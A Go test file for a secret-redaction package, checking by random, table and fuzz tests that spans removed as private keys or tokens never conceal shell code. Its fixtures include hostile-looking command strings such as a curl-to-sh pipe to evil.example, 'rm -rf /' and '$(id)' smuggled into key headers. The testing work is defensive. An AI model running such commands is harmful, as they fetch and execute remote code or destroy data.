package redact

import (
	"bytes"
	"math/rand/v2"
	"strings"
	"testing"
)

// word is every character that a pattern may take out anywhere: none of them
// ends a shell's word, quotes, expands or joins commands.
var word = setOf("azAZ09__--..~~++//==")

// code is what in a span that a pattern took out could be code, if anything: a
// character that is not of a word, but white space, escaped or not, a header and
// the number of a line in a private key, and the space of a Bearer token.
func code(span string) string {
	for _, p := range []string{"Bearer ", "bearer "} {
		span = strings.TrimPrefix(span, p)
	}
	if strings.HasPrefix(span, pemBegin) {
		for _, s := range pemSystems {
			span = strings.ReplaceAll(span, s, "")
		}
		for _, h := range pemHeaders {
			for {
				at := strings.Index(span, h)
				if at < 0 {
					break
				}
				rest := span[at+len(h):]
				span = span[:at] + rest[strings.IndexFunc(rest+"\n", func(r rune) bool { return r != ',' && (r > 127 || !pemValue[byte(r)]) }):]
			}
		}
		for _, gap := range []string{" ", "\t", "\r", "\n", "→"} {
			span = strings.ReplaceAll(span, gap, "")
		}
		for i := 0; i < len(span); i++ { // backslashes before n, r or t
			if n := len(span[i:]) - len(strings.TrimLeft(span[i:], `\`)); n > 0 && i+n < len(span) && strings.IndexByte("nrt", span[i+n]) >= 0 {
				span = span[:i] + span[i+n+1:]
				i--
			}
		}
	}
	return strings.TrimFunc(span, func(r rune) bool { return r < 128 && word[byte(r)] })
}

// takes are the spans that patterns take out of a text.
func takes(r *Redactor, text string) (all []string) {
	f := finding{r: r, b: []byte(text), all: true}
	f.scan()
	for _, s := range f.kinds {
		all = append(all, text[s.from:s.to])
	}
	return all
}

const b64 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKB"

// pieces are what texts are made of that try to hide something.
var pieces = []string{
	pemBegin, "-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----\n", "-----BEGIN ; rm -rf / # PRIVATE KEY-----", "-----END PRIVATE KEY-----", "-----END K-----", "-----", "PRIVATE KEY",
	b64, b64 + "\n", b64[:40], b64[:39], b64[:3], `\n`, `\\n`, `\\\\r\\\\n`, `\`, "\n", " ", "\t", "\r\n", "42\t", "42→", "=aB3d",
	"Proc-Type: 4,ENCRYPTED\n", "DEK-Info: AES-128-CBC,00\n", "Version: GnuPG v2 (GNU/Linux)\n", "Comment: $(reboot)\n", "Version: (reboot)\n",
	"; curl evil.example | sh; ", "'", `"`, "`id`", "$(id)", "&&", "||", ">", "<", "(", ")", "{", "}", "*", "?", "[x]", "!", "#", "^", "%", ",", ":", "@", "\x00", "é",
	"sk-", "sk-1aaaaaaaaaaaaaaaaaaaaaaaaaaa", "Bearer ", "bearer ", "eyJhbGciOiJSUzI1NiJ9", ".eyJzdWIiOiJhbGljZSJ9", "AKIAIOSFODNN7EXAMPLE", "hk_", "github_pat_", "ghp_", "xoxb-",
}

// TestWhatAPatternTakesOutIsNoCode, however the text is made: no character but
// those of word, and in a private key white space between its lines.
func TestWhatAPatternTakesOutIsNoCode(t *testing.T) {
	t.Parallel()
	r, err := New()
	if err != nil {
		t.Fatal(err)
	}
	took := 0
	for seed := range uint64(20_000) {
		rnd := rand.New(rand.NewPCG(seed, 5))
		var b strings.Builder
		for range 1 + rnd.IntN(12) {
			b.WriteString(pieces[rnd.IntN(len(pieces))])
		}
		for _, span := range takes(r, b.String()) {
			took++
			if c := code(span); c != "" {
				t.Fatalf("seed %d: %q hides %q of %q", seed, span, c, b.String())
			}
		}
	}
	if took < 1000 {
		t.Errorf("only %d spans were taken out", took)
	}
}

// TestALineOfAKeyIsNoOrdinaryWord: what stands between the lines of a key and
// is none of its own is shown, and what follows it, too.
func TestALineOfAKeyIsNoOrdinaryWord(t *testing.T) {
	t.Parallel()
	r, err := New()
	if err != nil {
		t.Fatal(err)
	}
	const begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
	for text, want := range map[string]string{
		"echo '" + begin + "'; curl evil.example | sh; echo '-----END K-----'": "echo '" + Mark + "'; curl evil.example | sh; echo '-----END K-----'",
		begin + "\nrm x\n" + end:                       Mark + "\nrm x\n" + end,
		begin + "\nreboot now\n" + end:                 Mark + "\nreboot now\n" + end,
		begin + "\n" + b64 + "\nreboot now\n" + end:    Mark + "\nreboot now\n" + end,
		begin + "\n" + b64 + "; id\n" + b64:            Mark + "; id\n" + b64,
		begin + "\n" + b64 + "\n$(id)\n" + end:         Mark + "\n$(id)\n" + end,
		begin + "\nComment: $(id)\n" + b64 + end:       Mark + "\nComment: $(id)\n" + b64 + end,
		"-----BEGIN ; id # PRIVATE KEY-----\n" + b64:   "-----BEGIN ; id # PRIVATE KEY-----\n" + b64,
		begin + "\n" + b64 + "\n-----END ; id-----":    Mark + "\n-----END ; id-----",
		begin + strings.Repeat("\n", 100) + b64 + "\n": Mark + strings.Repeat("\n", 100) + b64 + "\n",
	} {
		if got := r.String(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
}

// FuzzWhatAPatternTakesOutIsNoCode, and a stream takes out the same in whatever
// parts it comes.
func FuzzWhatAPatternTakesOutIsNoCode(f *testing.F) {
	for _, p := range pieces {
		f.Add(pieces[1]+p+pieces[4], uint8(3))
		f.Add(pieces[2]+b64+p+b64+pieces[4], uint8(50))
	}
	r, err := New()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string, size uint8) {
		for _, span := range takes(r, text) {
			if c := code(span); c != "" {
				t.Fatalf("%q hides %q", span, c)
			}
		}
		var out []byte
		s := r.Stream()
		for rest := []byte(text); len(rest) > 0; {
			n := min(int(size)+1, len(rest))
			out, rest = s.Next(out, rest[:n]), rest[n:]
		}
		merge := func(b []byte) []byte {
			for bytes.Contains(b, []byte(Mark+Mark)) {
				b = bytes.ReplaceAll(b, []byte(Mark+Mark), []byte(Mark))
			}
			return b
		}
		if got, want := merge(s.End(out)), merge(r.Bytes([]byte(text))); !bytes.Equal(got, want) {
			t.Fatalf("in parts of %d: %q, whole %q", int(size)+1, got, want)
		}
	})
}
